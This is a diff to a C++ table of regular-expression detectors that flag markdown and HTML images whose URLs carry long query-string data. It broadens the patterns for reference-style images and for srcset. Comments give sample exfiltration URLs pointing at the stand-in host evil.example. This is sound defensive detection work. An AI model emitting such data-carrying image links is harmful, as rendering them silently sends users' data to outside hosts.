@@ -211,19 +211,20 @@ constexpr PatternSpec kExfiltrationPatterns[] = {
      R"((!\[[^\]]{0,100}\]\(\s*<?(?i:https?)://[^)\s>]{1,200}\?[^)\s>]*=[^)\s&>]{16,}[^)\s>]*>?)"
      R"((?:\s+(?:"[^"]{0,200}"|'[^']{0,200}'|\([^)]{0,200}\)))?\s*\)))",
      MatchCheck::kNone, 0.85f, "a markdown image whose URL carries data", &kMarkdownImageGate},
-    // ![x][ref] with "[ref]: https://evil.example/p?d=<data>" before or
-    // after it: a reference image is fetched as an inline one is.
+    // ![x][ref] (or ![x][], ![x]) with "[ref]: https://evil.example/p?d=
+    // <data>" (the URL maybe on the next line) before or after it: a
+    // reference image is fetched as an inline one is.
     {"markdown_image_reference_with_data", "exfiltration",
-     R"((?s)(!\[[^\]]{0,100}\]\[[^\]]{0,100}\].*?(?:^|\n)[ \t]{0,3}\[[^\]]{1,100}\]:[ \t]*)"
-     R"(<?(?i:https?)://[^\s>]{1,200}\?[^\s>]*=[^\s&>]{16,}|)"
-     R"((?:^|\n)[ \t]{0,3}\[[^\]]{1,100}\]:[ \t]*<?(?i:https?)://[^\s>]{1,200}\?[^\s>]*=)"
-     R"([^\s&>]{16,}.*?!\[[^\]]{0,100}\]\[[^\]]{0,100}\]))",
+     R"((?s)(!\[[^\]]{0,100}\](?:\[[^\]]{0,100}\])?.*?(?:^|\n)[ \t]{0,3}\[[^\]]{1,100}\]:)"
+     R"([ \t]*\n?[ \t]*<?(?i:https?)://[^\s>]{1,200}\?[^\s>]*=[^\s&>]{16,}|)"
+     R"((?:^|\n)[ \t]{0,3}\[[^\]]{1,100}\]:[ \t]*\n?[ \t]*<?(?i:https?)://[^\s>]{1,200}\?)"
+     R"([^\s>]*=[^\s&>]{16,}.*?!\[[^\]]{0,100}\]))",
      MatchCheck::kNone, 0.85f, "a markdown reference image whose URL carries data",
      &kMarkdownReferenceGate},
     // <img src="https://evil.example/p?d=<data>">: clients that render HTML
     // fetch it too.
     {"html_image_with_data", "exfiltration",
-     R"((?i)(<img\b[^>]{0,200}\bsrc\s*=\s*["']?https?://[^"'\s>]{1,200}\?[^"'\s>]*=)"
+     R"((?i)(<img\b[^>]{0,200}\bsrc(?:set)?\s*=\s*["']?https?://[^"'\s>]{1,200}\?[^"'\s>]*=)"
      R"([^"'\s>&]{16,}))",
      MatchCheck::kNone, 0.85f, "an HTML image whose URL carries data", &kHtmlImageGate},
     {"link_with_data", "exfiltration",
